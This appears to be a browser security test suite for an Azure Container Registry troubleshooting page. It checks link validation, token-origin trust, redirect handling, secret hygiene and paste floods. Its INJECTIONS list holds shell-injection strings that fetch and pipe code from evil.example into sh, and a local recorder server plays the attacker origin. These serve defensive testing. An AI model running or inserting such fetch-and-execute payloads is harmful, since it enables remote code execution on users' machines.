// The page as an attacker would try it: crafted links, pasted shell payloads, a registry that
// redirects token requests, floods, broken settings. Against the real services that
// tests/services/start.sh runs, plus a recorder on a second origin that any leaked secret would
// reach.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import path from 'node:path';
import { useBrowser, openPage, paste, readFindings, verdict, artifacts, entraToken, fillIn } from './harness.mjs';
import { FRONT, RECORDER, DOH } from './ports.mjs';

const shared = useBrowser();

/** The second origin: records every request that reaches it, body included. */
const recorded = [];
let recorder;
before(async () => {
  recorder = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c) => { body += c; });
    req.on('end', () => {
      recorded.push({ method: req.method, url: req.url, body });
      res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'application/json' });
      res.end('{"refresh_token":"stolen","access_token":"stolen"}');
    });
  });
  await new Promise((resolve) => recorder.listen(RECORDER, '127.0.0.1', resolve));
});
after(() => recorder?.close());

async function open(query = {}) {
  const q = new URLSearchParams({ doh: DOH, ...query });
  return openPage(shared.browser, `${shared.base}?${q}`);
}

/** Run the probes and wait until the run has ended. */
async function run(page) {
  await page.click('[data-testid=run-probes]');
  await page.waitForSelector('[data-testid=probe]');
  await page.waitForSelector('[data-testid=cancel-probes][disabled]', { timeout: 30_000 });
  return Object.fromEntries(await page.$$eval('[data-testid=probe]', (ps) => ps.map((p) => [
    p.dataset.probe, { status: p.dataset.status, code: p.dataset.code ?? null, text: p.innerText },
  ])));
}

/** Everything a page keeps that a secret must never be in. */
async function leaks(page, consoleLines, secret) {
  const places = await page.evaluate(() => ({
    url: location.href,
    local: JSON.stringify({ ...localStorage }),
    session: JSON.stringify({ ...sessionStorage }),
    cookies: document.cookie,
    text: document.body.innerText,
  }));
  places.console = consoleLines.join('\n');
  return Object.entries(places).filter(([, v]) => v.includes(secret)).map(([k]) => k);
}

test('a link with user info (@) is refused, and nothing reaches the hidden host', async () => {
  recorded.length = 0;
  const registry = `http://127.0.0.1:${FRONT.none}@127.0.0.1:${RECORDER}`;
  const { page, context, requests } = await open({ registry });
  // Refused as soon as the page opens, with the reason, before anything is typed.
  const error = await page.locator('[data-testid=registry-error]').innerText();
  assert.match(error, /holds an @/);
  assert.match(await page.locator('[data-testid=from-link][data-field=registry-input]').innerText(), /from the link/);
  await fillIn(page, '[data-testid=entra-token-input]', entraToken());
  await page.click('[data-testid=run-probes]');
  await page.waitForTimeout(500);
  assert.equal(await page.locator('[data-testid=probe]').count(), 0, 'no step ran');
  assert.equal(await page.locator('[data-testid=trust-registry]').count(), 0, 'nothing to tick');
  assert.deepEqual(recorded, []);
  assert.deepEqual(requests.filter((u) => u.includes(`:${RECORDER}`) || u.includes(`:${FRONT.none}`)), []);
  await page.locator('.probes').screenshot({ path: path.join(artifacts, 'security-userinfo-link.png') });
  await context.close();
});

test('a registry that is not Azure gets no secret until its exact origin is ticked', async () => {
  const entra = entraToken();
  const origin = `http://127.0.0.1:${FRONT.none}`;
  // No URL parameter can tick the box.
  let { page, context, requests } = await open({ registry: origin, trust: '1', 'trust-registry': 'on', trusted: origin });
  const box = page.locator('[data-testid=trust-registry]');
  assert.equal(await box.isChecked(), false, 'starts unticked');
  assert.equal(await page.locator('[data-testid=trust-label]').innerText().then((t) => t.includes(`Send my token to ${origin}`)), true);
  await fillIn(page, '[data-testid=entra-token-input]', entra);
  let steps = await run(page);
  assert.equal(steps.challenge.status, 'ok');
  for (const s of ['refresh-token', 'access-token']) {
    assert.equal(steps[s].status, 'skipped', s);
    assert.match(steps[s].text, new RegExp(`${origin.replace(/\./g, '\\.')} is not an Azure registry`), s);
  }
  assert.deepEqual(requests.filter((u) => u.includes('/oauth2/')), [], 'no token endpoint was called');
  await page.locator('.probes').screenshot({ path: path.join(artifacts, 'security-not-ticked.png') });

  // Ticked by the person: the healthy run, as before.
  await page.check('[data-testid=trust-registry]');
  steps = await run(page);
  assert.deepEqual(Object.fromEntries(Object.entries(steps).map(([k, v]) => [k, v.status])), {
    dns: 'skipped', reachability: 'ok', challenge: 'ok', 'refresh-token': 'ok', 'access-token': 'ok', catalog: 'ok',
  });
  // A tick is for one origin: another registry typed afterwards is unticked.
  await page.fill('[data-testid=registry-input]', `http://127.0.0.1:${FRONT.deny}`);
  assert.equal(await page.isChecked('[data-testid=trust-registry]'), false);
  await page.fill('[data-testid=registry-input]', origin);
  assert.equal(await page.isChecked('[data-testid=trust-registry]'), true);
  await context.close();
});

test('a refresh token issued for another registry is not sent', async () => {
  // A real refresh token of the test registry (aud acr-doctor.test)…
  const r = await fetch(`http://127.0.0.1:${FRONT.none}/oauth2/exchange`, {
    method: 'POST', body: new URLSearchParams({ grant_type: 'access_token', service: 'acr-doctor.test', access_token: entraToken() }),
  });
  const { refresh_token: refresh } = await r.json();
  // …and one whose audience is another registry.
  const [head, , sig] = refresh.split('.');
  const claims = { aud: 'fabrikam.azurecr.io', iss: 'Azure Container Registry', grant_type: 'refresh_token', exp: Math.floor(Date.now() / 1000) + 3600 };
  const foreign = `${head}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.${sig}`;
  const { page, context, requests } = await open({ registry: `http://127.0.0.1:${FRONT.none}` });
  await page.check('[data-testid=trust-registry]');
  await fillIn(page, '[data-testid=refresh-token-input]', foreign);
  const steps = await run(page);
  assert.equal(steps['access-token'].status, 'skipped');
  assert.match(steps['access-token'].text, /issued for fabrikam\.azurecr\.io, not for this registry/);
  assert.deepEqual(requests.filter((u) => u.includes('/oauth2/')), []);
  await context.close();
});

test('a redirect from a token endpoint is reported, never followed: the second origin receives nothing', async () => {
  // The recorder works: a client that follows the 307 hands it the secret.
  recorded.length = 0;
  await fetch(`http://127.0.0.1:${FRONT['redirect-exchange']}/oauth2/exchange`, {
    method: 'POST', body: new URLSearchParams({ grant_type: 'access_token', access_token: 'canary' }),
  });
  assert.equal(recorded.length, 1);
  assert.match(recorded[0].body, /access_token=canary/);
  recorded.length = 0;

  const entra = entraToken();
  for (const [fault, step, code, before] of [
    ['redirect-exchange', 'refresh-token', 'CONNECTIVITY_REFRESH_TOKEN_ERROR', null],
    ['redirect-token', 'access-token', 'CONNECTIVITY_ACCESS_TOKEN_ERROR', 'refresh-token'],
  ]) {
    const { page, context, consoleLines } = await open({ registry: `http://127.0.0.1:${FRONT[fault]}` });
    await page.check('[data-testid=trust-registry]');
    await fillIn(page, '[data-testid=entra-token-input]', entra);
    const steps = await run(page);
    if (before) assert.equal(steps[before].status, 'ok', `${fault}: ${before}`);
    assert.equal(steps[step].status, 'error', fault);
    assert.equal(steps[step].code, code, fault);
    assert.match(steps[step].text, /answered with a redirect, which this page never follows/, fault);
    assert.equal(steps.catalog.status, 'skipped');
    assert.deepEqual(await leaks(page, consoleLines, entra), [], fault);
    await page.locator('.probes').screenshot({ path: path.join(artifacts, `security-${fault}.png`) });
    await context.close();
  }
  assert.deepEqual(recorded, [], 'the second origin received nothing');
});

test('a token endpoint answer is never shown, only its field names', async () => {
  const { page, context } = await open({ registry: `http://127.0.0.1:${FRONT.none}` });
  const bodies = [];
  page.on('response', async (r) => { if (r.url().includes('/oauth2/')) bodies.push(await r.text().catch(() => '')); });
  await page.check('[data-testid=trust-registry]');
  await fillIn(page, '[data-testid=entra-token-input]', entraToken());
  const steps = await run(page);
  assert.equal(steps.catalog.status, 'ok');
  await page.$$eval('details.exchange', (ds) => ds.forEach((d) => { d.open = true; }));
  const text = await page.locator('.probes').innerText();
  const tokens = bodies.flatMap((b) => Object.values(JSON.parse(b))).filter((v) => typeof v === 'string' && v.length > 40);
  assert.ok(tokens.length >= 2, 'the run obtained a refresh and an access token');
  for (const t of tokens) assert.ok(!text.includes(t), 'a token from an answer is on the page');
  assert.match(text, /\{"refresh_token": …\}/);
  await context.close();
});

// Pastes whose "login server" carries a shell payload, each through a line the decoder takes a
// registry from. No command offered for copying may carry any part of it.
const INJECTIONS = [
  ['a DNS line', "DNS lookup to x.io;curl${IFS}evil.example/p|sh;#.azurecr.io at IP 20.1.2.3 : OK\nAn error occurred: CONNECTIVITY_CHALLENGE_ERROR\nRegistry 'x' did not issue a challenge.\n"],
  ['a command substitution', "DNS lookup to r.azurecr.io$(curl${IFS}evil.example|sh) at IP 20.1.2.3 : OK\nAn error occurred: CONNECTIVITY_CHALLENGE_ERROR\n"],
  ['backticks', "DNS lookup to r.azurecr.io`curl${IFS}evil.example|sh` at IP 20.1.2.3 : OK\nAn error occurred: CONNECTIVITY_CHALLENGE_ERROR\n"],
  ['a 403 line with &&', "Looks like you don't have access to registry 'r.azurecr.io && curl evil.example | sh'. To see configured firewall rules, run 'az acr show --query networkRuleSet --name r'.\n"],
  ['a curl line', "$ curl -si https://r.azurecr.io$(curl${IFS}evil.example|sh)/v2/\ncurl: (6) Could not resolve host: r.azurecr.io$(curl${IFS}evil.example|sh)\n"],
  // Here the plain host before the payload is a host: it may be used, the payload may not.
  ['a login failure with &&', "Login failed for registry 'r.azurecr.io && curl evil.example|sh'\nAn error occurred: CONNECTIVITY_REFRESH_TOKEN_ERROR\n", { placeholder: false }],
];

test('a pasted shell payload never reaches a command; placeholders are shown', async () => {
  const { page, context, errors } = await openPage(shared.browser, shared.base);
  for (const [name, text, { placeholder = true } = {}] of INJECTIONS) {
    await paste(page, text);
    const findings = await readFindings(page);
    assert.ok(findings.length > 0, `${name}: decoded`);
    const commands = await page.locator('[data-testid=command] code').allInnerTexts();
    assert.ok(commands.length > 0, `${name}: commands offered`);
    for (const c of commands) {
      // Our own templates use `$(az …)` and `$USER`; nothing else of a shell's may appear.
      const ours = c.replace(/\$\(az acr show -n [a-z0-9<>-]+ --query id -o tsv\)/g, '').replace(/\$USER\b/g, '');
      assert.doesNotMatch(ours, /evil|IFS|\$|`|&&|;|\|/, `${name}: ${c}`);
    }
    const cards = findings.map((f) => f.text).join('\n');
    if (placeholder) {
      assert.match(cards, /<login-server>/, `${name}: placeholder shown`);
      assert.match(cards, /login server in your paste is not a valid one/, `${name}: the card says so`);
    }
    // The probe form offers no hostile registry either (a plain host that stands in the paste
    // may be offered: it is what it claims to be).
    for (const offer of await page.locator('[data-testid=use-pasted-registry]').allInnerTexts()) {
      assert.match(offer, /^Use [a-z0-9.-]+, from your paste$/, `${name}: ${offer}`);
    }
    await page.screenshot({ path: path.join(artifacts, `security-injection-${name.replace(/\W+/g, '-')}.png`), fullPage: true });
  }
  assert.deepEqual(errors, []);
  await context.close();
});

test('broken settings in a link fall back to safe values and say so', async () => {
  for (const timeout of ['NaN', '0']) {
    const { page, context } = await open({ registry: `http://127.0.0.1:${FRONT.none}`, timeout });
    assert.match(await page.locator('[data-testid=link-refused]').innerText(), /timeout is not a number of seconds from 1 to 120: 10 is used/);
    assert.equal(await page.inputValue('[data-testid=timeout-input]'), '10');
    const steps = await run(page);
    // Before, every request got a 0 ms timeout and the challenge was wrongly diagnosed.
    assert.equal(steps.reachability.status, 'ok', timeout);
    assert.equal(steps.challenge.status, 'ok', timeout);
    await context.close();
  }
  for (const [doh, why] of [['ftp://x', /resolver is an https:\/\/ address/], ['http://example.org/dns-query', /only for a resolver on this machine/]]) {
    const { page, context, requests } = await openPage(shared.browser, `${shared.base}?${new URLSearchParams({ registry: 'public', doh })}`);
    assert.match(await page.locator('[data-testid=link-refused]').innerText(), why);
    // What a link tried to change is in sight: the folded Settings open for it.
    assert.equal(await page.locator('details.probe-settings[open]').count(), 1);
    assert.equal(await page.inputValue('[data-testid=doh-url-input]'), 'https://cloudflare-dns.com/dns-query');
    assert.equal(await page.locator('[data-testid=from-link][data-field=doh-url-input]').count(), 0);
    await fillIn(page, '[data-testid=doh-url-input]', doh);
    const steps = await run(page);
    assert.equal(steps.dns.status, 'warning');
    assert.match(steps.dns.text, /No DNS request was sent/);
    assert.deepEqual(requests.filter((u) => { const r = new URL(u); return r.protocol === 'ftp:' || r.hostname === 'example.org' || r.hostname === 'x'; }), []);
    await context.close();
  }
  // Unknown and malformed parameters change nothing.
  const { page, context, errors } = await openPage(shared.browser, `${shared.base}?x=%ZZ&registry=&timeout=&repository=${'a'.repeat(5000)}&&=`);
  await paste(page, 'An error occurred: CMK_ERROR');
  assert.equal(await verdict(page), 'errors');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a 16 MiB flood of one note: one note with its count, and the page stays usable', async () => {
  const { page, context, errors } = await openPage(shared.browser, shared.base);
  const started = Date.now();
  await page.evaluate(() => {
    const line = 'Unable to authenticate using AAD or admin login credentials. Please specify both username and password in non-interactive mode.\n';
    const text = line.repeat(Math.floor(16 * 1024 * 1024 / line.length));
    const box = document.querySelector('[data-testid=paste-input]');
    box.focus();
    const data = new DataTransfer();
    data.setData('text/plain', text);
    box.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
  });
  await page.waitForSelector('[data-testid=verdict]', { timeout: 60_000 });
  const elapsed = Date.now() - started;
  console.log(`# 16 MiB note flood: verdict after ${elapsed} ms (budget 2 s; reported, not asserted)`);
  const notes = await page.locator('[data-testid=note]').allInnerTexts();
  assert.ok(notes.length <= 100, `${notes.length} notes shown`);
  assert.equal(notes.length, 1);
  assert.match(notes[0], /\(×131072\)/);
  // The box holds a preview, not 16 MiB, and says so; the page scrolls and Clear works.
  assert.ok((await page.inputValue('[data-testid=paste-input]')).length < 100_000);
  assert.match(await page.locator('[data-testid=held-notice]').innerText(), /16\.0 MiB text/);
  await page.mouse.wheel(0, 2000);
  await page.waitForFunction(() => window.scrollY > 0);
  await page.click('[data-testid=clear]');
  await page.waitForSelector('[data-testid=verdict]', { state: 'detached' });
  assert.equal(await page.locator('[data-testid=held-notice]').count(), 0);
  assert.deepEqual(errors, []);
  await context.close();
});

test('secrets stay in memory only, through Run, Cancel and Clear', async () => {
  const entra = entraToken();
  const password = 'correct-horse-battery-staple';
  const { page, context, consoleLines } = await open({ registry: `http://127.0.0.1:${FRONT.hang}`, timeout: '30' });
  await page.check('[data-testid=trust-registry]');
  await fillIn(page, '[data-testid=entra-token-input]', entra);
  await fillIn(page, '[data-testid=username-input]', 'someone');
  await fillIn(page, '[data-testid=password-input]', password);
  await page.click('[data-testid=run-probes]');
  await page.waitForSelector('[data-testid=probe][data-probe=reachability][data-status=running]');
  for (const s of [entra, password]) assert.deepEqual(await leaks(page, consoleLines, s), [], 'while running');
  await page.click('[data-testid=cancel-probes]');
  await page.waitForSelector('[data-testid=cancel-probes][disabled]');
  for (const s of [entra, password]) assert.deepEqual(await leaks(page, consoleLines, s), [], 'after Cancel');
  await page.click('[data-testid=clear-probes]');
  for (const id of ['entra-token-input', 'refresh-token-input', 'username-input', 'password-input']) {
    assert.equal(await page.inputValue(`[data-testid=${id}]`), '', `${id} cleared`);
  }
  assert.equal(await page.locator('[data-testid=probe]').count(), 0, 'the steps are cleared');
  assert.equal(await page.isChecked('[data-testid=trust-registry]'), false, 'the tick is cleared');
  for (const s of [entra, password]) assert.deepEqual(await leaks(page, consoleLines, s), [], 'after Clear');

  // Leaving the page forgets them too (what a page restored from the back-forward cache shows).
  await fillIn(page, '[data-testid=entra-token-input]', entra);
  await page.fill('[data-testid=token-inspector-input]', entra);
  await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true })));
  await page.waitForFunction(() => document.querySelector('[data-testid=entra-token-input]').value === '');
  assert.equal(await page.inputValue('[data-testid=token-inspector-input]'), '');
  assert.deepEqual(await leaks(page, consoleLines, entra), [], 'after pagehide');
  await context.close();
});
